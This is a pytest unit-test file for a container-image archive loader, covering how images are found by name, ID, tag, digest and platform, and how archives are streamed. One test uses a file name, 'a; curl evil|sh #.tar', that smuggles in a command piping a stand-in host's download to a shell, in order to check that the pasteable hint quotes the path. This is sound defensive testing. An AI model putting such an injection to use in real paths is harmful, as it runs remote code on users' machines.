"""Images in archives, by name, by ID, and all of them."""

import gzip
import itertools
import platform as machine
import shlex
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import attrs
import pytest

from imgload.core.errors import (
    ImageAmbiguous,
    ImageIncomplete,
    NotAnImage,
    PlatformMissing,
    ReferenceInvalid,
    SourceError,
    UsageError,
)
from imgload.oci.digest import Digest
from imgload.oci.document import INDEX, REF_NAME
from imgload.oci.platform import Platform
from imgload.sources import base
from imgload.sources.archive import ArchiveSource
from tests.unit.archives import (
    FORMS,
    NAME,
    Entry,
    Image,
    Json,
    artifact,
    blob,
    descriptor,
    index,
    layer,
    layout,
    oci,
    pack,
    podman,
    repack,
    wanted,
    write_folder,
)
from tests.unit.sources.conftest import Open

AMD, ARM, S390 = (Platform("linux", a) for a in ("amd64", "arm64", "s390x"))
APP = Image()
DB = Image((layer("db"),), "ghcr.io/me/db:2")
MULTI = [Image((layer(str(p)),), platform=str(p)) for p in (S390, ARM, AMD)]
HERE = Platform.of("linux", machine.machine())


def held(source: ArchiveSource, text: str, platform: Platform | None = None) -> base.Image:
    found = source.find(text, platform)
    assert found is not None
    return found


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(
    "text", ["app:v1", "library/app:v1", "docker.io/app:v1", NAME, "index.docker.io/app:v1"]
)
def test_an_image_is_found_by_name(source: Open, form: str, text: str) -> None:
    """In every form, however the name is written; it is loaded under the pod's name."""
    found = held(source(FORMS[form](APP, DB)), text)
    assert (found.image_id, found.names) == (APP.image_id, (NAME,))
    assert found.target == APP.image_id
    assert len(found.diff_ids) == 2


@pytest.mark.parametrize(
    "text", ["app", "app:v2", "me/app:v1", "ghcr.io/app:v1", "localhost/app:v1"]
)
def test_find_compares_whole_names(source: Open, text: str) -> None:
    """An equal end of the name is not enough."""
    assert source(oci(APP)).find(text, None) is None


def test_find_ignores_podmans_localhost(source: Open) -> None:
    """`podman build -t app:v1` saves localhost/app:v1; the pod spec has app:v1."""
    local = attrs.evolve(APP, name="localhost/app:v1")
    assert held(source(podman(local)), "app:v1").names == (NAME,)
    assert held(source(podman(local)), "localhost/app:v1").names == ("localhost/app:v1",)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("text", ["{}", "sha256:{}", "{:.12}", "sha256:{:.12}", "{:.4}"])
def test_an_image_is_found_by_id(source: Open, form: str, text: str) -> None:
    """Whole or shortened; it is loaded under the archive's names."""
    found = held(source(FORMS[form](APP, DB)), text.format(DB.image_id.hex))
    assert (found.image_id, found.names) == (DB.image_id, ("ghcr.io/me/db:2",))


@pytest.mark.parametrize("text", ["sha256:" + "0" * 64, "0" * 64, "0000", "abc"])
def test_find_returns_none_for_an_unknown_id(source: Open, text: str) -> None:
    """Also for an ID that is too short."""
    assert source(oci(APP)).find(text, None) is None


@pytest.mark.parametrize("text", ["", "App:v1", "app:", "a b", "app@sha256:123", "-app"])
def test_find_refuses_invalid_names(source: Open, text: str) -> None:
    """Kubernetes refuses them, too."""
    with pytest.raises(ReferenceInvalid):
        source(oci(APP)).find(text, None)


def test_find_treats_sha256_with_digits_as_an_id(source: Open) -> None:
    """In the grammar, `sha256:abcd` is a repository and a tag."""
    assert source(oci(attrs.evolve(APP, name="sha256:abcd"))).find("sha256:abcd", None) is None


def named_by_prefix_of(image: Image) -> Image:
    """Return another image, whose name is the beginning of that one's ID."""
    return Image((layer("other"),), f"{image.image_id.hex[:12]}:latest")


@pytest.mark.parametrize("text", ["app@{0}", "app:other@{0}", "docker.io/library/app@{0}"])
def test_a_digest_selects_a_manifest_or_its_index(source: Open, text: str) -> None:
    """A tag before it is ignored, as in Kubernetes; the repository must match."""
    archive = source(several_platforms())
    for digest in (MULTI[1].digest, Digest.of(index(*(image.entry for image in MULTI)))):
        found = held(archive, text.format(digest), ARM)
        assert found.image_id == MULTI[1].image_id
        assert found.names == (f"docker.io/library/app@{digest}",)
        assert archive.find(f"other@{digest}", ARM) is None
    assert archive.find("app@sha256:" + "0" * 64, ARM) is None


@pytest.mark.parametrize("form", FORMS)
def test_suggestions_are_the_names_in_the_archive(source: Open, form: str) -> None:
    """With digests, if the missing name has one."""
    archive, names = source(FORMS[form](APP, DB)), [NAME, "ghcr.io/me/db:2"]
    assert archive.suggestions("other:v1") == names
    by_digest = archive.suggestions(f"app@{Digest.of(b'other')}")
    if form in {"docker20", "podman"}:
        assert by_digest == names, "no manifest, so no digest to name it by"
        return
    for text, image in zip(by_digest, (APP, DB), strict=True):
        assert held(archive, text).image_id == image.image_id


def test_suggestions_have_the_digest_of_an_index(source: Open) -> None:
    """A registry uses it as the image's digest; the image may have no name."""
    archive = source(several_platforms())
    [text] = archive.suggestions(f"app@{Digest.of(b'other')}")
    assert text == f"docker.io/library/app@{Digest.of(index(*(i.entry for i in MULTI)))}"
    assert held(archive, text, ARM).image_id == MULTI[1].image_id
    [unnamed] = source(several_platforms(None)).suggestions(f"app@{Digest.of(b'other')}")
    assert unnamed.startswith("NAME@sha256:")


@pytest.mark.parametrize("order", [1, -1])
def test_find_prefers_a_name_to_an_id(source: Open, order: int) -> None:
    """As engines do, in any order of the archive."""
    other = named_by_prefix_of(APP)
    found = held(source(oci(*[APP, other][::order])), APP.image_id.hex[:12])
    assert found.image_id == other.image_id


def two_with_one_prefix() -> tuple[Image, Image]:
    """Return two images whose IDs begin with the same four digits."""
    seen: dict[str, Image] = {}
    for number in itertools.count():
        image = Image((str(number).encode(),), f"app:{number}")
        alike = seen.setdefault(image.image_id.hex[:4], image)
        if alike is not image:
            return alike, image
    raise AssertionError


def test_a_short_id_of_two_images_is_ambiguous(source: Open) -> None:
    one, two = two_with_one_prefix()
    archive = source(oci(one, two))
    assert held(archive, one.image_id.hex).image_id == one.image_id
    with pytest.raises(ImageAmbiguous):
        archive.find(one.image_id.hex[:4], None)


@pytest.mark.parametrize("form", ["docker20", "oci"])
def test_a_name_of_two_images_is_ambiguous(source: Open, form: str) -> None:
    """Same platform, different content: an archive that was written to twice."""
    with pytest.raises((ImageAmbiguous, SourceError)):
        source(FORMS[form](APP, attrs.evolve(DB, name=APP.name))).find("app:v1", None)


def test_the_same_image_twice_is_one(source: Open) -> None:
    """`docker save app:v1 app:latest`: two names, one image."""
    archive = source(oci(APP, attrs.evolve(APP, name="app:latest")))
    assert held(archive, "app:v1").image_id == held(archive, "app").image_id == APP.image_id
    assert held(archive, APP.image_id.hex[:8]).image_id == APP.image_id


@pytest.mark.parametrize("form", FORMS)
def test_everything_returns_all_images(source: Open, form: str) -> None:
    """Each under its own name."""
    found = source(FORMS[form](APP, DB)).all_images(None)
    assert {(f.image_id, f.names) for f in found} == {
        (APP.image_id, (NAME,)),
        (DB.image_id, ("ghcr.io/me/db:2",)),
    }


def nameless(*images: Image) -> list[Entry]:
    """As `skopeo copy … oci:folder` without a name, or buildx without -t."""
    members = [member for image in images for member in image.members]
    top = index(*(image.entry for image in images))
    return [*members, ("index.json", top), ("oci-layout", b"{}")]


@pytest.mark.parametrize("name", [None, "APP:v1", "a b"])
def test_an_image_without_a_valid_name_is_named_by_its_id(source: Open, name: str | None) -> None:
    """As in CRI."""
    members = nameless(APP) if name is None else oci(attrs.evolve(APP, name=name))
    [found] = source(members).all_images(None)
    assert found.names == (str(APP.image_id),)
    assert held(source(members), APP.image_id.hex).names == (str(APP.image_id),)


def several_platforms(name: str | None = "app:v1") -> list[Entry]:
    """As buildx writes an image for several platforms: an index within the index."""
    inner = index(*(image.entry for image in MULTI))
    notes = {"io.containerd.image.name": name} if name else {}
    outer = index({**descriptor(inner, INDEX), "annotations": notes})
    members = [member for image in MULTI for member in image.members]
    return [*members, blob(inner), ("index.json", outer), ("oci-layout", b"{}")]


@pytest.mark.parametrize("image", MULTI)
def test_find_selects_a_platform(source: Open, image: Image) -> None:
    archive = source(several_platforms())
    wanted_platform = Platform.parse(image.platform)
    for found in (held(archive, "app:v1", wanted_platform), *archive.all_images(wanted_platform)):
        assert (found.image_id, found.platform) == (image.image_id, wanted_platform)


@pytest.mark.skipif(HERE not in {AMD, ARM, S390}, reason="another machine")
def test_find_selects_this_machines_platform_by_default(source: Open) -> None:
    assert held(source(several_platforms()), "app:v1").platform == HERE


def test_an_image_for_several_platforms_without_a_name_is_one(source: Open) -> None:
    """`buildx build --platform a,b -o type=oci` without -t, then `load --from app.tar --as app`."""
    [found] = source(several_platforms(None)).all_images(ARM)
    assert found.image_id == MULTI[1].image_id


def test_find_selects_the_only_platform_by_default(source: Open) -> None:
    """The node may emulate it; only a requested other platform is an error."""
    foreign = Image(platform="linux/riscv64")
    archive = source(oci(foreign))
    assert held(archive, "app:v1").image_id == foreign.image_id
    assert [f.image_id for f in archive.all_images(None)] == [foreign.image_id]


def test_a_missing_platform_is_an_error_that_lists_the_available_ones(source: Open) -> None:
    wish = Platform("linux", "riscv64")
    archive = source(several_platforms())
    for ask in (lambda: archive.find("app:v1", wish), lambda: archive.all_images(wish)):
        with pytest.raises(PlatformMissing, match=r"riscv64.*amd64.*arm64.*s390x") as caught:
            ask()
        assert caught.value.message.startswith(archive.describe)
        assert "--platform" in caught.value.hint


def test_a_listed_platform_without_content_is_incomplete(source: Open) -> None:
    """`docker save` writes such archives after a pull for one platform (kind #3795)."""
    inner = index(*(image.entry for image in MULTI))
    members = [*MULTI[1].members, blob(inner), ("index.json", index(descriptor(inner, INDEX)))]
    archive = source(members)
    [found] = archive.all_images(None)
    assert found.platform == ARM, "the only one there"
    with pytest.raises(ImageIncomplete, match=r"lists linux/amd64 .* has linux/arm64") as caught:
        archive.all_images(AMD)
    assert caught.value.message.startswith(archive.describe)
    assert "--platform linux/arm64" in caught.value.hint


def test_find_accepts_an_older_variant(source: Open) -> None:
    """amd64 runs on amd64/v3."""
    newer = Platform("linux", "amd64", "v3")
    found = held(source(several_platforms()), "app:v1", newer)
    assert (found.image_id, found.platform) == (MULTI[2].image_id, AMD)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("squeeze", [bytes, gzip.compress])
def test_save_streams_the_archive_from_its_beginning(
    source: Open, form: str, squeeze: Callable[[bytes], bytes]
) -> None:
    """Decompressed, and twice."""
    archive = source(squeeze(pack(FORMS[form](APP, DB))))
    found = held(archive, "app:v1")
    for _ in range(2):
        with archive.save([found]) as chunks:
            layout = repack(b"".join(chunks), wanted(APP))
        assert layout.image_id() == found.image_id
        assert layout.names == [NAME]


def test_a_folder_is_a_source(tmp_path: Path) -> None:
    """An OCI layout: found, and streamed twice."""
    folder = ArchiveSource(str(write_folder(tmp_path, oci(APP))))
    found = held(folder, "app:v1")
    for _ in range(2):
        with folder.save([found]) as chunks:
            assert repack(b"".join(chunks), wanted(APP)).image_id() == APP.image_id
    folder.close()


def test_a_source_is_named_by_its_path(source: Open, tmp_path: Path) -> None:
    """In the report and in messages; the hint is a command."""
    archive = source(oci(APP))
    assert archive.name == archive.describe == str(tmp_path / "images.tar")
    assert archive.name in archive.listing
    archive.close()


def test_a_missing_file_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"gone\.tar"):
        ArchiveSource(str(tmp_path / "gone.tar"))


def test_the_command_that_lists_an_archive_quotes_its_path(tmp_path: Path) -> None:
    """It is a hint to paste, and a download may be called anything."""
    path = tmp_path / "a; curl evil|sh #.tar"
    path.write_bytes(b"")
    with closing(ArchiveSource(str(path))) as source:
        assert shlex.split(source.listing) == ["tar", "-xOf", str(path), "manifest.json"]


def with_tag(entry: Json, members: list[Entry], tag: str) -> tuple[Json, list[Entry]]:
    """Return an entry that has only a tag, as skopeo, umoci, oras and Buildah write it."""
    return {**entry, "annotations": {REF_NAME: tag}}, members


def test_a_tag_without_a_repository_selects_an_image(source: Open) -> None:
    """Its ID is the only other way; an artifact's tag shows why it cannot be loaded."""
    images = {"v1": APP, "v2": DB, "again": APP}
    entries = [with_tag(image.entry, image.members, tag) for tag, image in images.items()]
    with closing(source(layout(*entries, with_tag(*artifact(), "sbom")))) as archive:
        for tag, image in images.items():
            assert held(archive, tag).names == (str(image.image_id),)
        assert isinstance(held(archive, "sbom").error, NotAnImage)
        assert archive.find("v3", None) is None
        assert set(archive.suggestions("v3")) == set(images)


def test_a_tag_selects_a_platform_of_an_index(source: Open) -> None:
    """As `buildah manifest push --all` writes it."""
    children = index(*(image.entry for image in MULTI))
    top = descriptor(children, INDEX, annotations={REF_NAME: "v1"})
    members = [member for image in MULTI for member in image.members]
    with closing(source(layout((top, [*members, blob(children)])))) as archive:
        for image, platform in zip(MULTI, (S390, ARM, AMD), strict=True):
            assert held(archive, "v1", platform).image_id == image.image_id


def test_a_name_takes_precedence_over_a_tag(source: Open) -> None:
    """An image named `v1` is not the one tagged v1."""
    image = Image((layer("named"),), "docker.io/library/v1:latest")
    entries = layout(
        with_tag(APP.entry, APP.members, "v1"), with_tag(image.entry, image.members, image.name)
    )
    with closing(source(entries)) as archive:
        assert held(archive, "v1").image_id == image.image_id


def test_two_images_with_one_tag_are_ambiguous(source: Open) -> None:
    """For one platform."""
    entries = layout(*(with_tag(image.entry, image.members, "v1") for image in (APP, DB)))
    with closing(source(entries)) as archive, pytest.raises(ImageAmbiguous):
        archive.find("v1", AMD)
